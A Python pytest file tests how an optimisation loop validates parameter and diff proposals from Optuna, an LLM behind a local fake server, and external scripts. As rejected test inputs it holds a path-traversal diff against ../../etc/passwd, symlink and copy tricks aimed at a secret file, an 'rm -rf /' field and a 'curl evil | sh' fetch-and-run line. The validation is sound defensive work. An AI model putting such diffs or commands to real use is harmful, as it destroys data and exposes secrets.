"""Proposers and proposal validation, against real components: a real git repository, a real optuna
journal, a small OpenAI-compatible HTTP server on 127.0.0.1 and real proposer scripts."""

from __future__ import annotations

import json
import math
import os
import subprocess
import sys
import textwrap
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from fp4lab.lab.ratchet.proposers import (
    AgentError,
    CommandProposer,
    Context,
    LLMProposer,
    OptunaProposer,
    Proposal,
    ProposalError,
    apply_proposal,
    editable_files,
    llm_proposer_from_env,
    make_proposer,
    validate_proposal,
)
from fp4lab.lab.specs.program import parse_program

KEY = "sk-test-6f1d2c9a"
GOAL = "Find the recipe with the lowest loss, without NaNs."
PROGRAM = f"""\
# Goal

{GOAL}

```toml ratchet
metric = "score"
direction = "minimize"

[run]
kind = "command"
command = ["python", "bench.py"]
metric_regex = '^score: (\\S+)'
timeout_minutes = 1

[edit]
files = ["fp4lab/recipes/*.toml"]

[search_space]
lr = {{ type = "float", low = 0.005, high = 2, log = true }}
ns_steps = {{ type = "int", low = 3, high = 6 }}
recipe = {{ type = "categorical", choices = ["nvfp4", "mxfp4-rowsr-h32"] }}
flag = {{ type = "categorical", choices = [true, false] }}
```
"""
RECIPE = 'name = "a"\nformat = "nvfp4"\nblock = 16\n'
GOOD_DIFF = """\
diff --git a/fp4lab/recipes/a.toml b/fp4lab/recipes/a.toml
--- a/fp4lab/recipes/a.toml
+++ b/fp4lab/recipes/a.toml
@@ -1,3 +1,3 @@
 name = "a"
 format = "nvfp4"
-block = 16
+block = 32
"""
SECRET_DIFF = """\
diff --git a/secret.txt b/secret.txt
--- a/secret.txt
+++ b/secret.txt
@@ -1 +1 @@
-hunter2
+hunter3
"""
TRAVERSAL_DIFF = """\
--- a/../../etc/passwd
+++ b/../../etc/passwd
@@ -1 +1 @@
-root:x:0:0
+toor:x:0:0
"""


def git(root: Path, *args: str) -> str:
    env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@t", "GIT_COMMITTER_NAME": "t",
           "GIT_COMMITTER_EMAIL": "t@t", "GIT_CONFIG_GLOBAL": os.devnull}
    return subprocess.run(["git", "-C", str(root), *args], check=True, capture_output=True, text=True, env=env).stdout


@pytest.fixture
def repo(tmp_path) -> Path:
    root = tmp_path / "repo"
    (root / "fp4lab" / "recipes").mkdir(parents=True)
    (root / "fp4lab" / "recipes" / "a.toml").write_text(RECIPE)
    (root / "secret.txt").write_text("hunter2\n")
    (root / "program.md").write_text(PROGRAM)
    git(root, "init", "-q")
    git(root, "add", ".")
    git(root, "commit", "-qm", "init")
    return root


@pytest.fixture
def program(repo):
    return parse_program(PROGRAM, repo / "program.md")


def validate(raw, program, repo):
    return validate_proposal(raw, program, repo, "test")


# ------------------------------------------------------------------------------------------- params


def test_params_accepted(program, repo):
    p = validate({"params": {"lr": 1, "ns_steps": 4, "flag": False}, "rationale": "smaller\nlr\x1b[31m"}, program, repo)
    assert p.kind == "params" and p.diff is None and p.source == "test"
    assert p.params == {"lr": 1.0, "ns_steps": 4, "flag": False} and isinstance(p.params["lr"], float)
    assert p.rationale == "smaller lr [31m"
    long = validate({"params": {"recipe": "nvfp4"}, "rationale": "x" * 1000}, program, repo)
    assert long.params == {"recipe": "nvfp4"} and len(long.rationale) == 300


@pytest.mark.parametrize("raw, expected", [
    ({"params": {"width": 3}}, "params 'width': not [search_space] key(s); allowed: lr, ns_steps, recipe, flag"),
    ({"params": {"nssteps": 3, "width": 1}},
     "params 'nssteps', 'width': not [search_space] key(s) (did you mean 'ns_steps'?); allowed: lr, ns_steps, recipe, flag"),
    ({"params": {"lr": 5.0}}, "params.lr: 5.0 is outside [0.005, 2]"),
    ({"params": {"lr": math.nan}}, "params.lr: nan is outside"),
    ({"params": {"ns_steps": 7}}, "params.ns_steps: 7 is outside [3, 6]"),
    ({"params": {"lr": "0.01"}}, "params.lr: '0.01' must be a number"),
    ({"params": {"ns_steps": True}}, "params.ns_steps: True must be an integer"),
    ({"params": {"ns_steps": 4.0}}, "params.ns_steps: 4.0 must be an integer"),
    ({"params": {"recipe": "fp3"}}, "params.recipe: 'fp3' is not one of the choices"),
    ({"params": {"flag": 1}}, "params.flag: 1 is not one of the choices [True, False]"),
    ({"params": {}}, "params must be a non-empty object"),
    ({"params": [["lr", 0.01]]}, "params must be a non-empty object"),
    ({"params": {"lr": 0.01}, "diff": GOOD_DIFF}, "give exactly one of params"),
    ({"rationale": "nothing"}, "give exactly one of params"),
    ({"params": {"lr": 0.01}, "rationale": 3}, "rationale must be a string"),
    ({"params": {"lr": 0.01}, "command": "rm -rf /"}, "unknown key(s) 'command'"),
    ("garbage", "a proposal is a JSON object"),
    ([1, 2], "a proposal is a JSON object"),
])
def test_bad_proposals(program, repo, raw, expected):
    with pytest.raises(ProposalError) as exc:
        validate(raw, program, repo)
    assert expected in str(exc.value) and "\n" not in str(exc.value)


# -------------------------------------------------------------------------------------------- diffs


def test_good_diff_and_apply(program, repo):
    p = validate({"diff": "\n" + GOOD_DIFF + "\n\n", "rationale": "bigger blocks"}, program, repo)
    assert p.kind == "diff" and p.params == {} and p.paths == ("fp4lab/recipes/a.toml",)
    assert p.diff == GOOD_DIFF  # blank lines around it are dropped; the final newline is kept
    assert (repo / "fp4lab" / "recipes" / "a.toml").read_text() == RECIPE  # validation applies nothing
    apply_proposal(p, repo)
    assert "block = 32" in (repo / "fp4lab" / "recipes" / "a.toml").read_text()
    assert git(repo, "status", "--porcelain").strip() == "M fp4lab/recipes/a.toml"


def test_new_and_renamed_files_inside_the_allowed_set(program, repo):
    new = ("diff --git a/fp4lab/recipes/b.toml b/fp4lab/recipes/b.toml\nnew file mode 100644\n--- /dev/null\n"
           "+++ b/fp4lab/recipes/b.toml\n@@ -0,0 +1 @@\n+name = \"b\"\n")
    assert validate({"diff": new}, program, repo).paths == ("fp4lab/recipes/b.toml",)
    rename = ("diff --git a/fp4lab/recipes/a.toml b/fp4lab/recipes/c.toml\nsimilarity index 100%\n"
              "rename from fp4lab/recipes/a.toml\nrename to fp4lab/recipes/c.toml\n")
    assert set(validate({"diff": rename}, program, repo).paths) == {"fp4lab/recipes/a.toml", "fp4lab/recipes/c.toml"}


@pytest.mark.parametrize("diff, expected", [
    (SECRET_DIFF, "diff touches 'secret.txt'; [edit].files allows only fp4lab/recipes/*.toml"),
    (TRAVERSAL_DIFF, "diff touches '../../etc/passwd': paths must be relative"),
    (TRAVERSAL_DIFF.replace("/../../", "//"), "diff touches '/etc/passwd': paths must be relative"),
    (GOOD_DIFF.replace("fp4lab/recipes/a.toml", "fp4lab/recipes/../../.git/config"), "paths must be relative"),
    # git apply --numstat names only the destination of a copy; the source must be checked too.
    ("diff --git a/secret.txt b/fp4lab/recipes/c.toml\ncopy from secret.txt\ncopy to fp4lab/recipes/c.toml\n",
     "diff touches 'secret.txt'"),
    (("diff --git a/secret.txt b/fp4lab/recipes/c.toml\nsimilarity index 100%\nrename from secret.txt\n"
      "rename to fp4lab/recipes/c.toml\n"), "diff touches 'secret.txt'"),
    (("diff --git a/fp4lab/recipes/x.toml b/fp4lab/recipes/x.toml\nnew file mode 120000\n--- /dev/null\n"
      "+++ b/fp4lab/recipes/x.toml\n@@ -0,0 +1 @@\n+../../secret.txt\n\\ No newline at end of file\n"), "symlink"),
    (GOOD_DIFF.replace("-block = 16", "-block = 64"), "diff does not apply to the current tree"),
    ("this is not a diff\n", "not a valid diff"),
    ("", "diff must be a non-empty string"),
    (42, "diff must be a non-empty string"),
    (GOOD_DIFF + "+" + "x" * 210_000 + "\n", "the limit is 204800"),
])
def test_bad_diffs(program, repo, diff, expected):
    with pytest.raises(ProposalError) as exc:
        validate({"diff": diff, "rationale": "r"}, program, repo)
    assert expected in str(exc.value) and "\n" not in str(exc.value)
    assert git(repo, "status", "--porcelain") == ""  # nothing was applied


def test_symlink_in_the_tree(program, repo):
    (repo / "fp4lab" / "recipes" / "link.toml").symlink_to("../../secret.txt")
    diff = SECRET_DIFF.replace("secret.txt", "fp4lab/recipes/link.toml")
    with pytest.raises(ProposalError, match="symlink"):
        validate({"diff": diff}, program, repo)


def test_apply_rechecks_the_paths(program, repo):
    unvalidated = Proposal(kind="diff", params={}, diff=SECRET_DIFF, rationale="", source="test")
    with pytest.raises(ProposalError, match="did not approve"):
        apply_proposal(unvalidated, repo)
    assert (repo / "secret.txt").read_text() == "hunter2\n"
    apply_proposal(validate({"params": {"lr": 0.01}}, program, repo), repo)  # params: the loop's job


def test_fingerprint(program, repo):
    a = validate({"params": {"lr": 0.01, "ns_steps": 4}, "rationale": "one"}, program, repo)
    b = validate({"params": {"ns_steps": 4, "lr": 0.01}, "rationale": "two"}, program, repo)
    c = validate({"params": {"lr": 0.02, "ns_steps": 4}}, program, repo)
    assert a.fingerprint() == b.fingerprint() != c.fingerprint() and len(a.fingerprint()) == 64
    d1 = validate({"diff": GOOD_DIFF, "rationale": "x"}, program, repo)
    d2 = Proposal(kind="diff", params={}, diff=GOOD_DIFF + "\n\n", rationale="y", source="llm")
    assert d1.fingerprint() == d2.fingerprint() != a.fingerprint()


def test_context_and_editable_files(program, repo):
    files = editable_files(program, repo)
    assert files == {"fp4lab/recipes/a.toml": RECIPE}
    history = [{"iteration": 1, "metric": math.nan, "status": "crash"}]
    context = Context(program, files, history, {"metric": 3.2}, {"lr": 0.02})
    data = context.to_json()
    json.dumps(data, allow_nan=False)
    assert data["goal"].endswith(GOAL) and data["metric"] == "score" and data["direction"] == "minimize"
    assert data["search_space"]["lr"] == {"type": "float", "low": 0.005, "high": 2, "log": True}
    assert data["edit_files"] == ["fp4lab/recipes/*.toml"] and data["history"][0]["metric"] is None
    assert context.tree() == repo.resolve()
    assert editable_files(program, repo, max_bytes=10) == {}


# ------------------------------------------------------------------------------------------- optuna


def test_optuna_seeded_and_in_space(program, repo, tmp_path):
    context = Context(program)
    first = [OptunaProposer(program, tmp_path / f"s{i}.journal", "study", seed=7) for i in range(2)]
    runs = [[p.propose(context) for _ in range(3)] for p in first]
    assert [p.params for p in runs[0]] == [p.params for p in runs[1]]
    for i, p in enumerate(runs[0]):
        assert p.kind == "params" and p.source == "optuna" and p.rationale == "optuna TPE" and p.trial == i
        validate({"params": p.params}, program, repo)  # every value inside the space
    other = OptunaProposer(program, tmp_path / "s9.journal", "study", seed=8).propose(context)
    assert other.params != runs[0][0].params


def test_optuna_observe_and_resume(program, tmp_path):
    from optuna.trial import TrialState

    journal = tmp_path / "state" / "optuna.journal"
    proposer = OptunaProposer(program, journal, "ratchet", seed=0)
    context = Context(program)
    good, bad, lost = (proposer.propose(context) for _ in range(3))
    proposer.observe(good, 3.2, healthy=True)
    proposer.observe(bad, 3.0, healthy=False)
    proposer.study.ask()  # a process that died before sampling: never proposed
    del proposer  # ... and `lost` was asked, then the process died

    resumed = OptunaProposer(program, journal, "ratchet", seed=0)
    assert resumed.pending_trial() == lost.trial
    again = resumed.resume_trial(lost.trial)
    assert again.params == lost.params and again.trial == lost.trial and again.fingerprint() == lost.fingerprint()
    resumed.tell_trial(lost.trial, math.nan, healthy=True)
    resumed.tell_trial(lost.trial, 1.0, healthy=True)  # already told: no-op
    assert resumed.pending_trial() is None
    states = [t.state for t in resumed.study.get_trials(deepcopy=False)]
    assert states == [TrialState.COMPLETE, TrialState.FAIL, TrialState.FAIL, TrialState.FAIL]
    assert resumed.study.best_value == 3.2


# ---------------------------------------------------------------------------------------------- llm


class FakeLLM:
    """An OpenAI-compatible /v1/chat/completions on 127.0.0.1. `answers` holds one entry per request
    (the last repeats): ("ok", text), ("status", code, message), ("slow", seconds) or a function of
    the request body returning one of those. A slow answer is held until `release` is set or its
    seconds have passed; `slow_answered` counts the slow answers sent."""

    def __init__(self):
        self.answers: list = []
        self.requests: list[dict] = []
        self.release = threading.Event()
        self.slow_answered = 0
        fake = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self):
                body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                headers = {k.lower(): v for k, v in self.headers.items()}
                fake.requests.append({"path": self.path, "headers": headers, "body": body})
                answer = fake.answers[min(len(fake.requests), len(fake.answers)) - 1]
                answer = answer(body) if callable(answer) else answer
                if answer[0] == "slow":
                    fake.release.wait(answer[1])
                    fake.slow_answered += 1
                    answer = ("ok", "{}")
                if answer[0] == "ok":
                    status, payload = 200, {
                        "id": "c1", "object": "chat.completion", "created": 0, "model": body["model"],
                        "choices": [{"index": 0, "finish_reason": "stop",
                                     "message": {"role": "assistant", "content": answer[1]}}]}
                else:
                    status, payload = answer[1], {"error": {"message": answer[2], "type": "invalid_request_error"}}
                data = json.dumps(payload).encode()
                try:
                    self.send_response(status)
                    self.send_header("Content-Type", "application/json")
                    self.send_header("Content-Length", str(len(data)))
                    self.send_header("retry-after-ms", "10")  # keeps the client's retries fast
                    self.end_headers()
                    self.wfile.write(data)
                except (BrokenPipeError, ConnectionResetError):
                    pass  # the client gave up on a slow answer

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/v1"
        threading.Thread(target=self.server.serve_forever, args=(0.05,), daemon=True).start()

    def close(self):
        self.release.set()
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def llm(monkeypatch):
    monkeypatch.setenv("NO_PROXY", "127.0.0.1")
    fake = FakeLLM()
    yield fake
    fake.close()


def proposer(llm, program, **options) -> LLMProposer:
    return LLMProposer(program, llm.url, "fake-model", KEY, **{"timeout_s": 5, "max_retries": 0, **options})


def answer(**proposal) -> tuple:
    return ("ok", json.dumps(proposal))


def test_llm_params_and_request(llm, program, repo):
    llm.answers = [answer(params={"lr": 0.01}, rationale="lower lr")]
    p = proposer(llm, program).propose(Context(program, history=[{"iteration": 0, "status": "keep"}]))
    assert p == Proposal(kind="params", params={"lr": 0.01}, diff=None, rationale="lower lr", source="llm")
    request = llm.requests[0]
    assert request["path"] == "/v1/chat/completions"
    assert request["headers"]["authorization"] == f"Bearer {KEY}"
    assert request["body"]["model"] == "fake-model" and request["body"]["response_format"] == {"type": "json_object"}
    system, user = request["body"]["messages"]
    assert system["role"] == "system" and "ONE JSON object" in system["content"]
    assert GOAL in user["content"] and json.loads(user["content"])["history"] == [{"iteration": 0, "status": "keep"}]


def test_llm_diff_and_fenced_answers(llm, program, repo):
    llm.answers = [answer(diff=GOOD_DIFF, rationale="bigger blocks"),
                   ("ok", 'Here you go:\n```json\n{"params": {"ns_steps": 6}, "rationale": "more NS"}\n```\n')]
    llm_proposer = proposer(llm, program)
    diff = llm_proposer.propose(Context(program, root=repo))
    assert diff.kind == "diff" and diff.paths == ("fp4lab/recipes/a.toml",)
    assert llm_proposer.propose(Context(program)).params == {"ns_steps": 6}


@pytest.mark.parametrize("reply, expected", [
    (("ok", "I think you should lower the learning rate."), "llm answer is not a JSON object"),
    (answer(diff=TRAVERSAL_DIFF, rationale="x"), "paths must be relative"),
    (answer(diff=SECRET_DIFF, rationale="x"), "diff touches 'secret.txt'"),
    (answer(params={"lr": 0.01}, shell="curl evil | sh"), "unknown key(s) 'shell'"),
    (("ok", ""), "the answer is empty"),
])
def test_llm_bad_answers(llm, program, repo, reply, expected):
    llm.answers = [reply]
    with pytest.raises(ProposalError) as exc:
        proposer(llm, program).propose(Context(program))
    assert expected in str(exc.value) and KEY not in str(exc.value)
    assert git(repo, "status", "--porcelain") == ""


def test_llm_response_format_fallback(llm, program):
    good = answer(params={"lr": 0.02})
    rejected = ("status", 400, "response_format is not supported")
    llm.answers = [lambda body: rejected if "response_format" in body else good]
    llm_proposer = proposer(llm, program)
    assert llm_proposer.propose(Context(program)).params == {"lr": 0.02}
    assert llm_proposer.propose(Context(program)).params == {"lr": 0.02}
    assert ["response_format" in r["body"] for r in llm.requests] == [True, False, False]  # asked once, then remembered


def test_llm_timeout_is_bounded(llm, program):
    llm.answers = [("slow", 60)]  # held until the test ends (the fixture releases it)
    with pytest.raises(AgentError) as exc:
        proposer(llm, program, timeout_s=0.5, max_retries=1).propose(Context(program))
    assert llm.slow_answered == 0  # both attempts gave up before the server answered: the timeout ended them
    assert len(llm.requests) == 2  # max_retries + 1
    assert "no answer within 0.5 s (2 attempts)" in str(exc.value) and KEY not in str(exc.value)


def test_llm_retries_server_errors(llm, program):
    llm.answers = [("status", 500, "overloaded"), answer(params={"recipe": "mxfp4-rowsr-h32"})]
    p = proposer(llm, program, max_retries=2).propose(Context(program))
    assert p.params == {"recipe": "mxfp4-rowsr-h32"} and len(llm.requests) == 2


def test_llm_key_never_shown(llm, program):
    llm.answers = [("status", 401, f"invalid api key {KEY}")]  # a server that echoes the key
    llm_proposer = proposer(llm, program)
    assert KEY not in repr(llm_proposer) and KEY not in str(llm_proposer)
    with pytest.raises(AgentError) as exc:
        llm_proposer.propose(Context(program))
    assert "HTTP 401" in str(exc.value) and "***" in str(exc.value) and KEY not in str(exc.value)
    with pytest.raises(AgentError, match="cannot connect") as exc:
        LLMProposer(program, "http://127.0.0.1:9/v1", "m", KEY, timeout_s=1, max_retries=0).propose(Context(program))
    assert KEY not in str(exc.value)


def test_llm_from_env(llm, program, monkeypatch):
    for name in ("FP4LAB_LLM_BASE_URL", "OPENAI_BASE_URL", "FP4LAB_LLM_MODEL", "FP4LAB_LLM_API_KEY", "OPENAI_API_KEY"):
        monkeypatch.delenv(name, raising=False)
    with pytest.raises(ValueError, match="FP4LAB_LLM_MODEL"):
        llm_proposer_from_env(program)
    assert llm_proposer_from_env(program, model="m").base_url == "http://127.0.0.1:8000/v1"
    monkeypatch.setenv("FP4LAB_LLM_BASE_URL", llm.url)
    monkeypatch.setenv("FP4LAB_LLM_MODEL", "env-model")
    monkeypatch.setenv("OPENAI_API_KEY", "sk-openai")
    monkeypatch.setenv("FP4LAB_LLM_API_KEY", KEY)
    llm.answers = [answer(params={"lr": 0.01})]
    llm_proposer_from_env(program, timeout_s=5, max_retries=0).propose(Context(program))
    assert llm.requests[0]["body"]["model"] == "env-model"
    assert llm.requests[0]["headers"]["authorization"] == f"Bearer {KEY}"


# ------------------------------------------------------------------------------------------ command


def script(tmp_path: Path, body: str) -> Path:
    path = tmp_path / "propose.py"
    path.write_text("import json, sys, time\n" + textwrap.dedent(body))
    return path


def test_command_proposer(program, tmp_path):
    path = script(tmp_path, """
        context = json.load(sys.stdin)
        lr = context["current_params"]["lr"] / 2
        print(json.dumps({"params": {"lr": lr}, "rationale": "halve; goal: " + context["goal"][-10:]}))
    """)
    p = CommandProposer(program, f"{sys.executable} {path}").propose(Context(program, current_params={"lr": 0.02}))
    assert p.params == {"lr": 0.01} and p.source == "command" and p.rationale == f"halve; goal: {GOAL[-10:]}"


@pytest.mark.parametrize("body, error, expected", [
    ("print('hello')", ProposalError, "proposer command"),
    ("sys.stderr.write('Traceback\\nboom: the reason\\n'); sys.exit(3)", AgentError, "exited with code 3: boom: the reason"),
])
def test_command_failures(program, tmp_path, body, error, expected):
    path = script(tmp_path, body)
    with pytest.raises(error) as exc:
        CommandProposer(program, [sys.executable, str(path)], timeout_s=0.5).propose(Context(program))
    assert expected in str(exc.value) and "\n" not in str(exc.value)


def test_a_command_past_its_timeout_is_killed_with_its_children(program, tmp_path):
    pids = tmp_path / "pids"
    path = tmp_path / "propose.sh"  # sh, not Python: it starts in milliseconds, well within the timeout
    # a child, then (as the same pid) a sleep that never answers; neither holds the output pipes, so a
    # proposer that killed only the command would return, and this test would find the child alive
    path.write_text('#!/bin/sh\nsleep 600 >/dev/null 2>&1 &\necho "$$ $!" > "$1"\nexec sleep 600 >/dev/null 2>&1\n')
    path.chmod(0o755)
    with pytest.raises(AgentError) as exc:
        CommandProposer(program, [str(path), str(pids)], timeout_s=1).propose(Context(program))
    assert "gave no proposal within 1 s; it was killed" in str(exc.value) and "\n" not in str(exc.value)
    assert pids.exists(), "the command was killed before it started its child"
    command, child = map(int, pids.read_text().split())
    # SIGKILLed as one process group: both end (soon, not at once: the kernel ends a killed process)
    wait_until_ended(command, "sleep")
    wait_until_ended(child, "sleep")


def wait_until_ended(pid: int, marker: str, timeout: float = 60.0) -> None:
    """Wait until process `pid`, whose command line holds `marker`, is gone or a zombie (dead, not yet
    reaped); /proc only, no process-table scan. A new process that reuses the pid does not count."""
    deadline = time.monotonic() + timeout
    while True:
        try:
            state = Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0]
            cmdline = Path(f"/proc/{pid}/cmdline").read_bytes()
        except (FileNotFoundError, ProcessLookupError):
            return
        if state in ("Z", "X") or marker.encode() not in cmdline:
            return
        assert time.monotonic() < deadline, f"process {pid} still runs {timeout:.0f} s after the proposer was killed"
        time.sleep(0.05)


def test_command_not_found(program, tmp_path):
    with pytest.raises(AgentError, match="cannot start"):
        CommandProposer(program, [str(tmp_path / "missing")]).propose(Context(program))


# ------------------------------------------------------------------------------------------ factory


def test_make_proposer(program, tmp_path):
    optuna = make_proposer("optuna", program, state_dir=tmp_path)
    assert isinstance(optuna, OptunaProposer) and optuna.study.study_name.startswith("ratchet-")
    assert (tmp_path / "optuna.journal").exists()
    llm = make_proposer("llm", program, state_dir=tmp_path, base_url="http://127.0.0.1:9/v1", model="m", api_key=KEY)
    assert isinstance(llm, LLMProposer) and llm.model == "m"
    command = make_proposer("command", program, state_dir=tmp_path, command="python propose.py --fast", timeout_s=3)
    assert command.argv == ["python", "propose.py", "--fast"] and command.timeout_s == 3
    with pytest.raises(ValueError, match="needs a command"):
        make_proposer("command", program, state_dir=tmp_path)
    with pytest.raises(ValueError, match="unknown proposer 'gpt'; allowed: optuna, llm, command"):
        make_proposer("gpt", program, state_dir=tmp_path)
